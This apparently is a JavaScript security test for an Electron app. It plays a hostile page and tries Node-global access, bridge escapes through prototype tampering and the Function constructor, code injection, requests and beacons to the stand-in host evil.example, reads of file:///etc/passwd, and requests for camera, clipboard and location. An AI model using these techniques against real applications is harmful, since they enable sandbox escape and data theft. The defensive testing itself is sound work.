/**
 * A hostile script in our own page, served as one of its files, with the rights that a page's script has there. Plain
 * JavaScript, because it runs in the browser. `hostilePage()` answers with what it could do that it should not;
 * each attempt gets `patienceMs`.
 */
'use strict'
globalThis.hostilePage = async (patienceMs) => {
  // In a timer: what a debugger evaluates itself is exempt from the policy.
  await new Promise((resolve) => setTimeout(resolve))
  const done = []
  let tried = 0
  const soon = (promise) =>
    Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve('nothing'), patienceMs))])
  /** `attempt` answers true when it worked. */
  const attack = async (name, attempt) => {
    tried += 1
    try {
      if ((await soon(attempt())) === true) done.push(name)
    } catch {
      // Refused, which is what should happen.
    }
  }
  const fetched = () => true
  const event = (target, good) =>
    new Promise((resolve) => {
      for (const name of good) target.addEventListener(name, () => resolve(true))
      target.addEventListener('error', () => resolve(false))
    })

  // What Node and Electron would give.
  for (const name of [
    'require',
    'process',
    'module',
    'exports',
    '__dirname',
    '__filename',
    'Buffer',
    'global',
    'setImmediate',
    'electron',
    'ipcRenderer',
    'webFrame',
    '__non_webpack_require__',
  ])
    await attack(`the global ${name}`, () => typeof globalThis[name] !== 'undefined')
  await attack('more than the three calls of the bridge', () => {
    const names = Reflect.ownKeys(globalThis.clearPresence).map(String).sort()
    return JSON.stringify(names) !== '["onSnapshot","send","snapshot"]'
  })
  await attack('Node through the constructor of the bridge', () => {
    const make = globalThis.clearPresence.snapshot.constructor
    return make('return typeof process')() === 'object'
  })
  await attack('the bridge’s inside by a changed prototype', async () => {
    let seen = false
    const { push } = Array.prototype
    const { call } = Function.prototype
    const look = (args) => {
      for (const arg of args) if (arg !== null && typeof arg === 'object' && 'senderId' in arg) seen = true
    }
    Array.prototype.push = function (...args) {
      look(args)
      return Reflect.apply(push, this, args)
    }
    Function.prototype.call = function (...args) {
      look(args)
      return Reflect.apply(call, this, args)
    }
    try {
      await globalThis.clearPresence.snapshot()
    } finally {
      Array.prototype.push = push
      Function.prototype.call = call
    }
    return seen
  })
  await attack('Electron’s event from a pushed snapshot', () => {
    let leaked = false
    const stop = globalThis.clearPresence.onSnapshot((...args) => {
      leaked ||= args.length > 1 || 'sender' in args[0]
    })
    stop()
    return leaked
  })
  for (const value of [
    { type: 'open-link', link: 'https://evil.example/' },
    { type: 'set', pair: 'x' },
    null,
    'quit',
    ['quit'],
    { type: 'x'.repeat(5_000_000) },
    JSON.parse('{"__proto__":{"type":"quit"}}'),
    { type: { toString: () => 'quit' } },
  ])
    await attack(`a command that is none: ${JSON.stringify(value).slice(0, 50)}`, () =>
      globalThis.clearPresence.send(value).then(() => true),
    )
  await attack('a command with a function', () =>
    globalThis.clearPresence.send({ type: 'quit', now: () => 1, x: Symbol('x') }).then(() => true),
  )

  // Code from elsewhere.
  await attack('eval', () => eval('true'))
  await attack('Function', () => new Function('return true')())
  await attack(
    'a timer with text',
    () =>
      new Promise((resolve) => {
        globalThis.timed = () => resolve(true)
        setTimeout('timed()', 1)
      }),
  )
  await attack('innerHTML', () => {
    document.createElement('div').innerHTML = '<img src=x>'
    return true
  })
  await attack('document.write', () => {
    document.write('<p>x')
    return true
  })
  await attack('a Trusted Types policy', () => {
    trustedTypes.createPolicy('default', { createHTML: (x) => x })
    return true
  })
  const script = async (fill) => {
    const element = document.createElement('script')
    globalThis.ran = false
    fill(element)
    document.body.append(element)
    await new Promise((resolve) => setTimeout(resolve, 200))
    element.remove()
    return globalThis.ran === true
  }
  await attack('a script inside the page', () =>
    script((element) => {
      element.textContent = 'ran = true'
    }),
  )
  await attack('a script from data:', () =>
    script((element) => {
      element.src = 'data:text/javascript,ran=true'
    }),
  )
  await attack('a script from a blob', () =>
    script((element) => {
      element.src = URL.createObjectURL(new Blob(['ran = true']))
    }),
  )
  await attack('a script from elsewhere', () =>
    script((element) => {
      element.src = 'https://evil.example/x.js'
    }),
  )
  for (const url of [
    'data:text/javascript,export default 1',
    'file:///etc/passwd',
    'https://evil.example/x.js',
    'blob:x',
    'node:fs',
    'electron',
  ])
    await attack(`an import of ${url}`, () => import(url).then(() => true))
  await attack('a worker from a blob', async () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
    return event(worker, ['message'])
  })
  await attack('a worker from data:', () =>
    event(new Worker('data:text/javascript,postMessage(1)'), ['message']),
  )
  await attack('a service worker', () => navigator.serviceWorker.register('x.js').then(() => true))
  await attack('WebAssembly', () =>
    WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true),
  )
  await attack('a handler in an attribute', async () => {
    const element = document.createElement('button')
    globalThis.ran = false
    element.setAttribute('onclick', 'ran = true')
    element.click()
    return globalThis.ran === true
  })
  await attack('a javascript: link', async () => {
    const link = document.createElement('a')
    globalThis.ran = false
    link.href = 'javascript:void(ran = true)'
    link.click()
    await new Promise((resolve) => setTimeout(resolve, 100))
    return globalThis.ran === true
  })

  // Data to elsewhere.
  const places = [
    'https://evil.example/',
    'http://127.0.0.1:9/',
    'file:///etc/passwd',
    'clear-presence://app/index.html',
    'data:text/plain,x',
  ]
  for (const url of places) await attack(`a fetch of ${url}`, () => fetch(url).then(fetched))
  for (const url of places)
    await attack(`a request to ${url}`, () => {
      const request = new XMLHttpRequest()
      request.open('GET', url)
      request.send()
      return event(request, ['load'])
    })
  await attack('a web socket', () => event(new WebSocket('wss://evil.example/'), ['open']))
  await attack('an event source', () => event(new EventSource('https://evil.example/'), ['open']))
  await attack('a beacon from an image', () => {
    const image = new Image()
    image.src = 'https://evil.example/x.png'
    return event(image, ['load'])
  })
  await attack('an image from data:', () => {
    const image = new Image()
    image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='
    return event(image, ['load'])
  })
  await attack('a style from elsewhere', () => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = 'https://evil.example/x.css'
    document.head.append(link)
    return event(link, ['load'])
  })
  await attack('a style inside the page', () => {
    const style = document.createElement('style')
    style.textContent = 'body { --hostile: 1 }'
    document.head.append(style)
    return getComputedStyle(document.body).getPropertyValue('--hostile') !== ''
  })
  await attack('a font from data:', () =>
    new FontFace('x', 'url(data:font/woff2;base64,AAAA)').load().then(fetched),
  )
  await attack('a base address', () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
    const moved = document.baseURI.includes('evil.example')
    base.remove()
    return moved
  })

  // Other windows and frames, and what the browser may ask the user for.
  for (const src of [
    'https://evil.example/',
    'file:///etc/passwd',
    'clear-presence://app/index.html',
    'data:text/html,x',
  ])
    await attack(`a frame of ${src}`, async () => {
      const frame = document.createElement('iframe')
      frame.src = src
      document.body.append(frame)
      await new Promise((resolve) => setTimeout(resolve, 150))
      let inside = false
      try {
        inside = frame.contentDocument !== null && frame.contentDocument.body.textContent !== ''
      } catch {
        inside = false // Another origin: an error page that is shown in place of what was refused.
      }
      frame.remove()
      return inside
    })
  await attack('the bridge in a frame', () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const has = 'clearPresence' in frame.contentWindow
    frame.remove()
    return has
  })
  await attack('a webview', () => {
    const view = document.createElement('webview')
    view.src = 'https://evil.example/'
    view.setAttribute('allowpopups', '')
    document.body.append(view)
    const works = 'loadURL' in view || view.shadowRoot !== null
    view.remove()
    return works
  })
  await attack('an object', () => {
    const object = document.createElement('object')
    object.data = 'data:text/html,x'
    document.body.append(object)
    const made = event(object, ['load'])
    return made
  })
  for (const name of [
    'geolocation',
    'notifications',
    'camera',
    'microphone',
    'clipboard-read',
    'midi',
    'persistent-storage',
  ])
    await attack(`the permission ${name}`, () =>
      navigator.permissions.query({ name }).then(({ state }) => state === 'granted'),
    )
  await attack('a notification', () =>
    Notification.requestPermission().then((answer) => answer === 'granted'),
  )
  await attack(
    'where the user is',
    () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve(true),
          () => resolve(false),
        ),
      ),
  )
  await attack('the camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(fetched))
  await attack('the screen', () => navigator.mediaDevices.getDisplayMedia().then(fetched))
  await attack('the clipboard', () => navigator.clipboard.readText().then(fetched))
  for (const api of ['usb', 'serial', 'hid', 'bluetooth'])
    await attack(`devices by ${api}`, () =>
      (navigator[api].requestDevice ?? navigator[api].requestPort)
        .call(navigator[api], { filters: [] })
        .then(fetched),
    )

  return { tried, done }
}

/** The ways to leave a page; each takes an address. */
globalThis.hostileWays = {
  'an address': (url) => {
    location.href = url
  },
  'a replaced address': (url) => location.replace(url),
  'a link': (url) => {
    const link = document.createElement('a')
    link.href = url
    link.click()
  },
  'a link to a new window': (url) => {
    const link = document.createElement('a')
    link.href = url
    link.target = '_blank'
    link.click()
  },
  'a download': (url) => {
    const link = document.createElement('a')
    link.href = url
    link.download = 'x'
    link.click()
  },
  // Without an opener: the stand-in's Chromium stops a page that waits for the window that main denies.
  'a window': (url) => void window.open(url, '_blank', 'noopener'),
  'a middle click': (url) => {
    const link = document.createElement('a')
    link.href = url
    document.body.append(link)
    link.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true }))
    link.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true }))
  },
  'a form': (url) => {
    const form = document.createElement('form')
    form.action = url
    document.body.append(form)
    form.submit()
  },
  'a refresh': (url) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${url}`
    document.head.append(meta)
  },
}
